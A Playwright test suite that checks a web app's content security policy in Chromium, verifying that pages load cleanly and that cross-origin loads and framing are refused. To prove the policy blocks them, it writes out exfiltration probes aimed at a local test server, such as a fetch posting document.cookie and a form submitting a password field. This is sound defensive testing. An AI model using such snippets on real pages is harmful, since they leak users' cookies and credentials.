import { expect, test, type Page } from '@playwright/test';
import { DEMO, PAD_STUDY, signIn } from './support/accounts';
import { BASE_URL } from './support/bench-plan';
import { startLoggingServer, watchCsp, type CspWatch, type LoggingServer } from './support/csp-probe';

/**
 * The content security policy (next.config.js), checked where it acts: in Chromium. Every kind of
 * page — sign-in, dashboard, study, plan, the 3D bench (Web Workers, WebGL canvas), the review (ECharts
 * canvas), a logbook showing a photo from the file store — loads without a single violation; and
 * from a loaded page the browser refuses what the policy forbids, each refusal reported with the
 * directive that made it, while a server on another loopback origin receives nothing at all. Nor can
 * a page of another origin frame the app.
 */

// A complete 1x1 PNG; its first 8 bytes are the signature of PNG spec section 5.2.
const PNG_1X1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');
/** Plans and setup of the demo lab (database/seeds): one on the bench, one in review. */
const BENCH_PLAN = 'Probe tilt x depth';
const REVIEW_PLAN = 'Probe tilt at 10 cm';
const DEMO_SETUP = 'Probe 10 cm deep, upright';
/** Time for a request the browser might still send after a refusal to arrive [ms]. */
const LATE_REQUEST_MS = 750;

/** What a page has reported so far, compared whole so that a failure lists every violation. */
const recorded = (watch: CspWatch) => ({ violations: watch.violations, consoleLines: watch.consoleLines });
const NOTHING = { violations: [], consoleLines: [] };

async function idsOf(page: Page) {
  const { studies } = await (await page.request.get('/api/studies')).json();
  const studyId: number = studies.find((s: { name: string }) => s.name === PAD_STUDY).id;
  const { plans } = await (await page.request.get(`/api/studies/${studyId}/plans`)).json();
  const planId = (name: string): number => plans.find((p: { name: string }) => p.name === name).id;
  const { setups } = await (await page.request.get(`/api/studies/${studyId}/setups`)).json();
  const setupId: number = setups.find((s: { name: string }) => s.name === DEMO_SETUP).id;
  return { studyId, benchPlanId: planId(BENCH_PLAN), reviewPlanId: planId(REVIEW_PLAN), setupId };
}

test.describe('the content security policy in the browser', () => {
  let sink: LoggingServer;

  test.beforeAll(async () => {
    sink = await startLoggingServer((request) => {
      if (request.url?.startsWith('/x.js')) return { type: 'text/javascript', body: 'window.__foreignScriptRan = true;' };
      if (request.url?.startsWith('/s.css')) return { type: 'text/css', body: 'body { display: none }' };
      return undefined;
    });
  });
  test.afterAll(async () => {
    await sink?.close();
  });

  test('every kind of page loads with no violation: sign-in, dashboard, study, plan, bench, review, logbook with a stored photo', async ({ page }) => {
    const watch = await watchCsp(page);

    const signin = await page.goto('/signin');
    const policy = signin!.headers()['content-security-policy'];
    expect(policy).toContain("default-src 'self'");
    expect(policy).not.toContain('unsafe-eval'); // the production build needs no eval
    await expect(page.getByLabel('E-mail', { exact: true })).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);

    await signIn(page, DEMO.student);
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);
    const { studyId, benchPlanId, reviewPlanId, setupId } = await idsOf(page);

    await page.goto(`/studies/${studyId}`);
    await expect(page.getByRole('heading', { level: 1, name: PAD_STUDY })).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);

    await page.goto(`/studies/${studyId}/plans/${benchPlanId}`);
    await expect(page.getByRole('heading', { level: 1, name: BENCH_PLAN })).toBeVisible();
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);

    // The bench draws with WebGL and solves in a module Web Worker: k refines only if the worker ran.
    await page.goto(`/studies/${studyId}/bench?setup=${setupId}`);
    await expect(page.getByTestId('bench-scene').locator('canvas')).toHaveAttribute('data-frames', /^[1-9]/, { timeout: 30_000 });
    await expect(page.getByTestId('readout-status')).toHaveAttribute('data-state', 'refined', { timeout: 30_000 });
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);

    // The review's charts are ECharts on canvas.
    await page.goto(`/studies/${studyId}/plans/${reviewPlanId}/review`);
    await expect(page.getByRole('heading', { level: 1, name: /^Review: / })).toBeVisible();
    await expect(page.getByRole('img', { name: /^Parity plot of / }).first().locator('canvas').first()).toBeVisible({ timeout: 20_000 });
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);

    // A photo's thumbnail is a redirect to a signed link of the file store, another origin (img-src).
    const caption = `CSP thumbnail ${Date.now()}`;
    const uploaded = await page.request.post(`/api/studies/${studyId}/plans/${benchPlanId}/attachments`, {
      multipart: { kind: 'photo', caption, file: { name: 'csp.png', mimeType: 'image/png', buffer: PNG_1X1 } },
    });
    expect(uploaded.status(), await uploaded.text()).toBe(201);
    await page.goto(`/studies/${studyId}/plans/${benchPlanId}/logbook`);
    const thumbnail = page.getByRole('img', { name: caption });
    await thumbnail.scrollIntoViewIfNeeded();
    await expect.poll(() => thumbnail.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(1);
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);
  });

  test('the browser refuses what the policy forbids, names the directive, and the other origin hears nothing', async ({ page, browser }) => {
    // Control: from a page without the app's policy, the same loads do reach the other origin.
    const control = await startLoggingServer(() => ({
      type: 'text/html',
      body: `<!doctype html><script src="${sink.origin}/x.js?control"></script><script>fetch('${sink.origin}/data?control')</script>`,
    }));
    try {
      const controlPage = await browser.newPage();
      await controlPage.goto(`${control.origin}/`);
      await expect.poll(() => sink.requests.slice().sort()).toEqual(['GET /data?control', 'GET /x.js?control']);
      await controlPage.close();
    } finally {
      await control.close();
    }
    sink.requests.length = 0;

    const watch = await watchCsp(page);
    await signIn(page, DEMO.student);
    const dashboard = page.url();
    await page.waitForLoadState('networkidle');
    expect(recorded(watch)).toEqual(NOTHING);

    const foreign = sink.origin;
    /** Runs `attempt` in the page and waits for the violation it must cause. */
    const refused = async (what: string, directive: string, blocked: string, attempt: (origin: string) => unknown) => {
      const seen = watch.violations.length;
      const outcome = await page.evaluate(attempt, foreign);
      await expect
        .poll(() => watch.violations.slice(seen).map((v) => [v.effectiveDirective, v.disposition, v.blockedURI.startsWith(blocked)]), { message: what })
        .toContainEqual([directive, 'enforce', true]);
      return outcome;
    };

    expect(
      await refused('a script from another origin', 'script-src-elem', foreign, (origin) =>
        new Promise((resolve) => {
          const script = document.createElement('script');
          script.src = `${origin}/x.js?script`;
          script.onload = () => resolve('loaded');
          script.onerror = () => resolve('refused');
          document.head.append(script);
        }),
      ),
    ).toBe('refused');
    expect(await page.evaluate(() => (window as unknown as { __foreignScriptRan?: boolean }).__foreignScriptRan)).toBeUndefined();

    // An inline script runs ('unsafe-inline', for Next's bootstrap), but the eval inside it is refused.
    // It runs from a timer: while page.evaluate itself runs, the DevTools protocol lets eval through.
    expect(
      await refused('eval in a page script', 'script-src', 'eval', () =>
        new Promise((resolve) => {
          setTimeout(() => {
            const script = document.createElement('script');
            script.textContent = "try { window.__evalOutcome = String(eval('1 + 1')); } catch (error) { window.__evalOutcome = error.name; }";
            document.head.append(script);
            resolve((window as unknown as { __evalOutcome?: string }).__evalOutcome);
          }, 0);
        }),
      ),
    ).toBe('EvalError');

    expect(
      await refused('a style sheet from another origin', 'style-src-elem', foreign, (origin) =>
        new Promise((resolve) => {
          const link = document.createElement('link');
          link.rel = 'stylesheet';
          link.href = `${origin}/s.css?style`;
          link.onload = () => resolve('loaded');
          link.onerror = () => resolve('refused');
          document.head.append(link);
        }),
      ),
    ).toBe('refused');

    expect(
      await refused('an image from an origin other than the file store', 'img-src', foreign, (origin) =>
        new Promise((resolve) => {
          const img = new Image();
          img.onload = () => resolve('loaded');
          img.onerror = () => resolve('refused');
          img.src = `${origin}/pixel.png?img`;
        }),
      ),
    ).toBe('refused');

    expect(
      await refused('fetch() to another origin', 'connect-src', foreign, (origin) =>
        fetch(`${origin}/data?fetch`, { method: 'POST', body: document.cookie }).then(
          () => 'sent',
          () => 'refused',
        ),
      ),
    ).toBe('refused');

    await refused('a beacon to another origin', 'connect-src', foreign, (origin) => navigator.sendBeacon(`${origin}/beacon?beacon`, 'x'));

    await refused('an <object>', 'object-src', foreign, (origin) => {
      const object = document.createElement('object');
      object.type = 'text/html';
      object.data = `${origin}/object.html?object`;
      document.body.append(object);
    });

    await refused('an <iframe> of another origin (default-src)', 'frame-src', foreign, (origin) => {
      const frame = document.createElement('iframe');
      frame.src = `${origin}/frame.html?frame`;
      document.body.append(frame);
    });

    await refused('a <base> pointing at another origin', 'base-uri', foreign, (origin) => {
      const base = document.createElement('base');
      base.href = `${origin}/`;
      document.head.append(base);
    });

    await refused('a form posting to another origin', 'form-action', foreign, (origin) => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = `${origin}/collect?form`;
      const field = document.createElement('input');
      field.name = 'password';
      field.value = 'bench-tomasz-2026';
      form.append(field);
      document.body.append(form);
      form.submit();
    });
    expect(page.url()).toBe(dashboard);

    await page.waitForTimeout(LATE_REQUEST_MS);
    expect(sink.requests).toEqual([]);
  });

  test('no page of another origin can frame the app (frame-ancestors and X-Frame-Options)', async ({ page }) => {
    const neutral = await startLoggingServer(() => ({ type: 'text/html', body: '<!doctype html><p id="neutral">framed fine</p>' }));
    const host = await startLoggingServer(() => ({
      type: 'text/html',
      body: `<!doctype html><iframe id="app" src="${BASE_URL}/signin" onload="window.appFrameLoaded = true"></iframe><iframe id="neutral" src="${neutral.origin}/"></iframe>`,
    }));
    try {
      const consoleLines: string[] = [];
      page.on('console', (message) => consoleLines.push(message.text()));
      await page.goto(`${host.origin}/`);
      // Control: a page that does not forbid framing shows inside the same host page.
      await expect(page.frameLocator('#neutral').locator('#neutral')).toHaveText('framed fine');
      // Once the app's frame has finished loading, nothing of the app is in it: no sign-in form in any frame.
      await page.waitForFunction(() => (window as unknown as { appFrameLoaded?: boolean }).appFrameLoaded === true);
      for (const frame of page.frames()) {
        await expect(frame.getByLabel('E-mail', { exact: true })).toHaveCount(0);
      }
      await expect.poll(() => consoleLines.join('\n')).toMatch(/frame-ancestors/);

      // Both headers say so: frame-ancestors for current browsers, X-Frame-Options for older ones.
      const framed = await page.request.get(`${BASE_URL}/signin`);
      expect(framed.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
      expect(framed.headers()['x-frame-options']).toBe('DENY');
    } finally {
      await host.close();
      await neutral.close();
    }
  });
});
